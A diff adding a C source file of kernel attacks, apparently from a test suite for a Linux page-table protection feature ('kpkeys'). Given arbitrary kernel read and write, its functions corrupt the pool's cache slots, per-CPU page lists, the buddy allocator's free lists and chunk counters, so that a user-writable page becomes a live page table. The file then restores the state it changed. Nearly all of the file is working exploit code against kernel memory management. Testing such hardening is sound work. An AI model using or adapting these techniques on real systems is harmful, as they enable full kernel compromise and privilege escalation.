@@ -1,0 +1,410 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Where memory for page tables comes from: lists, caches and struct page, which
+ * are ordinary memory. With kpkeys off there is no pool, and the same is done to
+ * the page allocator's own lists.
+ *
+ * Judged, and left out: reserve[] and preallocated pages are taken only while
+ * the linear map is split, by the same functions as the caches.
+ */
+#include "attack.h"
+
+#define MAX_TABLES	1600
+
+/*
+ * The lists
+ */
+
+static u64 per_cpu(u64 addr, unsigned int cpu)
+{
+	return addr + kernel_read(lookup("__per_cpu_offset") + 8 * cpu);
+}
+
+/* The one that kernel memory comes from: the last that has memory. */
+static u64 zone(void)
+{
+	u64 zones = lookup("contig_page_data") + lookup("pglist_data.node_zones"), found = 0;
+	unsigned int i, normal = lookup("ZONE_NORMAL");
+
+	for (i = 0; i <= normal; i++) {
+		u64 zone = zones + i * lookup("sizeof zone");
+
+		if (kernel_read(zone + lookup("zone.managed_pages")))
+			found = zone;
+	}
+	return found;
+}
+
+/*
+ * As list_add(): the kernel checks lists as it takes things off them. The list
+ * may change meanwhile, by a page fault of this process for one; so all is done
+ * twice, first without effect, and from the start if it has changed.
+ */
+static void insert(u64 entry, u64 head)
+{
+	u64 first, writes = shared->nr_writes;
+	int round = 0;
+
+	do {
+		first = kernel_read(head);
+		kernel_write(first + 8, head);
+		kernel_write(entry, first);
+		kernel_write(entry + 8, head);
+	} while (kernel_read(head) != first || round++ < 1);
+	kernel_write(first + 8, entry);
+	kernel_write(head, entry);
+	shared->nr_writes = writes + 4;
+}
+
+/* The pool's cache of CPU 0: its slot number @n from the top. */
+static u64 cache_slot(unsigned int n)
+{
+	u64 cache = per_cpu(lookup("kpkeys_cache"), 0);
+	uint32_t nr = kernel_read(cache + (lookup("kpkeys_cache.nr") & ~7ULL)) >>
+		      (lookup("kpkeys_cache.nr") & 4 ? 32 : 0);
+
+	if (nr <= n)
+		die("the cache has %u pages only", nr);
+	return cache + lookup("kpkeys_cache.pages") + 8 * (nr - 1 - n);
+}
+
+/* Makes @page the next one that becomes a page table on CPU 0. */
+static void hand_out_next(u64 page)
+{
+	u64 pages, count, entry = page + lookup("page.lru");
+
+	if (protected) {
+		kernel_write(cache_slot(0), page);
+		return;
+	}
+	pages = per_cpu(kernel_read(zone() + lookup("zone.per_cpu_pageset")), 0);
+	insert(entry, pages + lookup("per_cpu_pages.lists"));
+	count = pages + lookup("per_cpu_pages.count");
+	kernel_write32(count, (kernel_read(count & ~7ULL) >> (count & 4 ? 32 : 0)) + 1);
+}
+
+/*
+ * To tidy up
+ */
+
+struct saved_page {
+	u64 page;
+	u64 words[8];
+};
+
+static void save_page(struct saved_page *saved, u64 page)
+{
+	unsigned int i;
+
+	saved->page = page;
+	for (i = 0; i < ARRAY_SIZE(saved->words); i++)
+		saved->words[i] = kernel_read(page + 8 * i);
+}
+
+static void restore_page(const struct saved_page *saved)
+{
+	unsigned int i;
+
+	for (i = 0; i < ARRAY_SIZE(saved->words); i++)
+		restore(saved->page + 8 * i, saved->words[i]);
+}
+
+/*
+ * @table is a page table of this process that is mapped so that it can be
+ * written; it translates @range. With it, any page table can be written.
+ */
+static void write_entry(volatile u64 *table, char *range, u64 slot, u64 value)
+{
+	unsigned int n = (1U << entry_bits()) - 2;
+
+	table[n] = leaf(slot & ~(u64)(PAGE_SIZE - 1));
+	flush();
+	*(volatile u64 *)(range + n * PAGE_SIZE + slot % PAGE_SIZE) = value;
+	table[n] = empty_entry();
+	flush();
+}
+
+/* Two tables of the last level, of which only the first is made. */
+static char *two_tables(unsigned int n)
+{
+	char *range = private_range(n);
+
+	*(volatile char *)range = 1;
+	return range;
+}
+
+/*
+ * Attacks
+ */
+
+/*
+ * @other is the address that the table @page, one of level 2 that has @range,
+ * translates in its second life as a table of level 1. So what is mapped there
+ * is a table of level 1 for @range.
+ */
+static int steal_with_both(char *range, char *other, u64 slot_of_other, u64 lost_slot, u64 lost)
+{
+	char *second = range + PMD_SIZE;
+	volatile u64 *table = (u64 *)(other + PAGE_SIZE), *lost_table;
+	unsigned int n = (1U << entry_bits()) - 2;
+	u64 page_mask = PAGE_SIZE - 1;
+
+	/* The fault writes entry 1, that of the second half of @range. */
+	memset((void *)table, 0, PAGE_SIZE);
+	flush();
+	steal_with_table(table, second);
+
+	/*
+	 * The table gets back its first life. The last of these writes takes away
+	 * what they are done with.
+	 */
+	table[n] = leaf(lost_slot);
+	table[n - 1] = leaf(slot_of_other & ~page_mask);
+	flush();
+	lost_table = (u64 *)(second + n * PAGE_SIZE);
+	lost_table[0] = lost;
+	*(volatile u64 *)(second + (n - 1) * PAGE_SIZE + (slot_of_other & page_mask)) =
+		empty_entry();
+	lost_table[1] = empty_entry();
+	flush();
+	return DONE;
+}
+
+/* A table of level 2 is handed out again, as one of level 1. */
+static int handed_out_again(void)
+{
+	char *range = two_tables(0), *other = two_tables(1) + PMD_SIZE;
+	u64 slot = entry_slot(leak.pgd, range, 2), old = kernel_read(slot);
+	u64 page = struct_page(slot);
+	struct saved_page saved;
+
+	run_on_cpu(0);
+	flush();
+	save_page(&saved, page);
+	hand_out_next(page);
+	steal_with_both(range, other, entry_slot(leak.pgd, other, 2), slot, old);
+	restore_page(&saved);
+	return DONE;
+}
+
+/* One free page in two slots of the cache. */
+static int handed_out_twice(void)
+{
+	char *other = two_tables(0) + PMD_SIZE, *range = private_range(1);
+	struct saved_page saved;
+	u64 slot;
+
+	run_on_cpu(0);
+	if (protected)
+		kernel_write(cache_slot(1), kernel_read(cache_slot(0)));
+	*(volatile char *)other = 1;
+	slot = table_of(other, 1);
+	save_page(&saved, struct_page(slot));
+	if (!protected)
+		hand_out_next(struct_page(slot));
+	/* The first table that this needs is one of level 2. */
+	*(volatile char *)range = 1;
+	if (entry_slot(leak.pgd, range, 2) != slot)
+		return GAINED_NOTHING;
+	steal_with_both(range, other, entry_slot(leak.pgd, other, 2), slot, kernel_read(slot));
+	restore_page(&saved);
+	return DONE;
+}
+
+/* A page of user memory becomes a page table. */
+static int ordinary_page(void)
+{
+	u64 *chunk = map_at(NULL, PAGE_SIZE, MAP_SHARED), page, slot;
+	/* Locked pages are on no list of the kernel's, once there are many. */
+	volatile u64 *user = map_at(NULL, 64 * PAGE_SIZE, MAP_SHARED | MAP_LOCKED | MAP_POPULATE);
+	char *range = two_tables(0) + PMD_SIZE;
+	struct saved_page saved;
+
+	if (protected)
+		return not_possible("the pool refuses the page, and the process then waits for ever");
+	memset(chunk, 0, PAGE_SIZE);
+	run_on_cpu(0);
+	flush();
+
+	page = struct_page(address_of((void *)user));
+	save_page(&saved, page);
+	if (protected) {
+		u64 mapping = lookup("page.mapping");
+		u64 real = kernel_read(kernel_read(cache_slot(0)) + mapping);
+
+		chunk[lookup("kpkeys_chunk.pool") / 8] =
+			kernel_read(real + lookup("kpkeys_chunk.pool"));
+		chunk[lookup("kpkeys_chunk.page") / 8] = page;
+		chunk[lookup("kpkeys_chunk.nr_pages") / 8] |=
+			1ULL << (lookup("kpkeys_chunk.nr_pages") & 4 ? 32 : 0);
+		kernel_write(page + mapping, address_of(chunk));
+	}
+	hand_out_next(page);
+	*(volatile char *)range = 1;
+	slot = entry_slot(leak.pgd, range, 2);
+	if (kernel_address(kernel_read(slot)) != address_of((void *)user))
+		return GAINED_NOTHING;
+	steal_with_table(user, range);
+	write_entry(user, range, slot, empty_entry());
+	restore_page(&saved);
+	return DONE;
+}
+
+/*
+ * Memory that user space has mapped is in the page allocator's list of free
+ * blocks, as after a wrong reference count. The pool takes it.
+ */
+static int freed_while_mapped(void)
+{
+	unsigned long nr = (2UL << 20) / PAGE_SIZE, total = 8 * nr, i, j, run = 0;
+	u64 *frames, first = 0, area;
+	char *memory, **of, *tables;
+
+	if (!protected)
+		return ordinary_page();
+	if (on_arch("um"))
+		return not_possible("the pool refuses the memory, and UML does not survive it");
+
+	memory = mmap(NULL, total * PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE |
+		      MAP_ANONYMOUS | MAP_POPULATE | MAP_LOCKED, -1, 0);
+	tables = mmap(NULL, (MAX_TABLES + 1) * PMD_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE |
+		      MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+	of = malloc(nr * sizeof(*of));
+	if (memory == MAP_FAILED || tables == MAP_FAILED || !of)
+		die("cannot map memory");
+	tables = (char *)(((uintptr_t)tables + PMD_SIZE - 1) & ~(PMD_SIZE - 1));
+	madvise(memory, total * PAGE_SIZE, MADV_DONTFORK);
+	madvise(tables, MAX_TABLES * PMD_SIZE, MADV_DONTFORK);
+	madvise(tables, MAX_TABLES * PMD_SIZE, MADV_NOHUGEPAGE);
+
+	/* A whole block of the attacker's: nothing else is to become read-only. */
+	frames = frames_of(memory, total);
+	for (i = 0; i < total && run < nr; i++) {
+		first = frames[i];
+		if (first & (nr - 1))
+			continue;
+		for (j = run = 0; j < total; j++) {
+			if (frames[j] < first || frames[j] - first >= nr)
+				continue;
+			of[frames[j] - first] = memory + j * PAGE_SIZE;
+			run++;
+		}
+	}
+	if (run < nr)
+		return not_possible("no block of contiguous memory");
+	for (i = 0; i < nr; i++)
+		*(volatile u64 *)of[i] = ~0ULL;
+
+	/* As in a page that has been freed. */
+	kernel_write(leak.memmap + first * lookup("sizeof page") + lookup("page.memcg_data"), 0);
+	area = zone() + lookup("zone.free_area") + __builtin_ctzl(nr) * lookup("sizeof free_area");
+	insert(leak.memmap + first * lookup("sizeof page") + lookup("page.lru"), area);
+	area += lookup("sizeof free_area") - 8;
+	kernel_write(area, kernel_read(area) + 1);
+
+	for (j = 0; j < MAX_TABLES; j++) {
+		char *range = tables + j * PMD_SIZE;
+
+		*(volatile char *)range = 1;
+		for (i = 0; i < nr; i++)
+			if (*(volatile u64 *)of[i] != ~0ULL && *(volatile u64 *)of[i])
+				return stay(steal_with_table((u64 *)of[i], range));
+	}
+	return GAINED_NOTHING;
+}
+
+/* A live page table is in the list of those that lose their pkey. */
+static int untagged(void)
+{
+	u64 page = struct_page(own_page_slot());
+	char *range;
+
+	if (protected) {
+		range = two_tables(0);
+		insert(page + lookup("page.lru"), lookup("unpooled_free_list"));
+		/* Freeing this one starts the work. */
+		kernel_write(struct_page(table_of(range, 1)) + lookup("page.mapping"),
+			     lookup("unpooled_chunk"));
+		munmap(range, 2 * PMD_SIZE);
+		usleep(500000);
+	}
+	return stay(steal_by_write(own_page_slot()));
+}
+
+static u64 chunk_of(const void *addr)
+{
+	return kernel_read(struct_page(table_of(addr, 1)) + lookup("page.mapping"));
+}
+
+/* The pool keeps memory of early boot for ever. */
+static bool is_boot_chunk(u64 chunk)
+{
+	u64 boot = chunk + lookup("kpkeys_chunk.boot");
+
+	return kernel_read(boot & ~7ULL) >> (boot & 7) * 8 & 0xff;
+}
+
+/* A chunk with live page tables is empty, if one believes its counter. */
+static int released(void)
+{
+	u64 chunk, first = 0, counts, word, nr_free = lookup("kpkeys_chunk.nr_free");
+	unsigned int i = 0, n = 0, more;
+	char *tables;
+
+	if (!protected)
+		return steal_by_write(own_page_slot());
+
+	run_on_cpu(0);
+	tables = mmap(NULL, MAX_TABLES * PMD_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE |
+		      MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+	if (tables == MAP_FAILED)
+		die("cannot map memory");
+	madvise(tables, MAX_TABLES * PMD_SIZE, MADV_DONTFORK);
+	madvise(tables, MAX_TABLES * PMD_SIZE, MADV_NOHUGEPAGE);
+
+	for (;;) {
+		own_page_move(n++);
+		chunk = chunk_of(own_page());
+		first = first ?: chunk;
+		/* After it, so that it has neighbours to be freed. */
+		for (more = 0; more < 64; more++)
+			tables[i++ * PMD_SIZE] = 1;
+		/* A new one: what others need is not to be freed. */
+		if (chunk != first && !is_boot_chunk(chunk))
+			break;
+		if (i + 64 > MAX_TABLES)
+			return not_possible("all page tables are in chunks that stay");
+	}
+
+	counts = chunk + (nr_free & ~7ULL);
+	word = kernel_read(counts);
+	if (nr_free & 4)
+		word = (word & 0xffffffff) | ((word & 0xffffffff) - 1) << 32;
+	else
+		word = (word & ~0xffffffffULL) | ((word >> 32) - 1);
+	kernel_write(counts, word);
+	/* More than fit into the cache. */
+	munmap(tables, MAX_TABLES * PMD_SIZE);
+	usleep(100000);
+	write_file("/proc/sys/vm/drop_caches", "2");
+	return stay(steal_by_write(own_page_slot()));
+}
+
+const struct attack pool[] = {
+	{ "pool-slot-twice", "a slot of the cache: a free page that is in it already",
+	  handed_out_twice },
+	{ "pool-slot-live", "a slot of the cache, and the bit that says that the page is in use",
+	  handed_out_again },
+	{ "pool-slot-user", "a slot of the cache, and a chunk: a page of user memory",
+	  ordinary_page },
+	{ "free-list", "the page allocator's list of free blocks: user memory",
+	  freed_while_mapped },
+	{ }
+};
+
+/* Last, because live page tables are freed if these win. */
+const struct attack releases[] = {
+	{ "pool-release", "a chunk's number of free pages", released },
+	{ "pool-untag", "the list of tables to be freed: a live one", untagged },
+	{ }
+};
